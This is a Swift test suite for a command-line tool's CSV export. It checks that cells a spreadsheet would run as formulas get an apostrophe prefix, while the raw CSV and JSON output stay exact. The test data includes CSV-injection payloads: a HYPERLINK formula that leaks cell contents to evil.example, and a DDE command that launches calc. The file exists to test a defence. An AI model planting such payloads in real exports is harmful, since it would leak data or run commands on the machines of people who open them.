import Foundation
import Testing

/// A cell that a spreadsheet would run as a formula comes out of every CSV listing with a `'`
/// before it; `--raw-csv` gives the bytes; JSON and exports stay exact.
@Suite struct CSVInjectionTests {
  static let hostile = [
    #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, #"+1+cmd|" /C calc"!A0"#, "-2+3", "@SUM(A1:A9)",
    "\tTAB=1", "\r=1",
  ]

  let sandbox: Sandbox

  init() throws {
    sandbox = try Sandbox()
    try sandbox.add("actor", "add", "Ukraine", "--kind", "state")
    try sandbox.add("actor", "add", "=Evil Corp", "--kind", "company", "--id", "evil")
    try sandbox.add("negotiation", "add", "Talks", "--party", "Ukraine", "--party", "evil", "--id", "talks")
    for (index, text) in Self.hostile.enumerated() {
      // After "--", so that "-2+3" is the text and not an option.
      try sandbox.add("log", "talks", "--on", "2025-02-\(10 + index)", "--", text)
    }
  }

  /// The cells of a CSV text (RFC 4180), row by row.
  static func cells(_ csv: String) -> [[String]] { OutputFormatTests.parseCSV(csv) }

  @Test func everyCSVListingNeutralisesFormulas() throws {
    let listings: [[String]] = [
      ["timeline", "talks"], ["development", "list"], ["actor", "list"], ["negotiation", "show", "talks"],
      ["search", "HYPERLINK"],
    ]
    for listing in listings {
      let csv = try sandbox.output(listing + ["--format", "csv"])
      for row in Self.cells(csv) {
        for cell in row {
          let first = cell.unicodeScalars.first
          #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first), "\(listing): a live formula: \(cell)")
        }
      }
    }
    let timeline = Self.cells(try sandbox.output("timeline", "talks", "--format", "csv"))
    let texts = timeline.flatMap { $0 }
    for text in Self.hostile {
      #expect(texts.contains("'" + text), "\(text) is not in the timeline with a ' before it")
    }
    #expect(
      Self.cells(try sandbox.output("actor", "list", "--format", "csv")).contains {
        $0.contains("'=Evil Corp")
      })
  }

  @Test func rawCSVAndJSONAreExact() throws {
    let raw = Self.cells(try sandbox.output("timeline", "talks", "--format", "csv", "--raw-csv")).flatMap {
      $0
    }
    for text in Self.hostile { #expect(raw.contains(text), "\(text)") }
    let json = try #require(try sandbox.json("development", "list") as? [[String: Any]])
    #expect(json.compactMap { $0["text"] as? String } == Self.hostile)
    let misplaced = try sandbox.run("timeline", "talks", "--raw-csv")
    #expect(misplaced.status == 64)
    #expect(misplaced.stderr.hasPrefix("Error: --raw-csv goes with --format csv"), "\(misplaced)")
  }
}
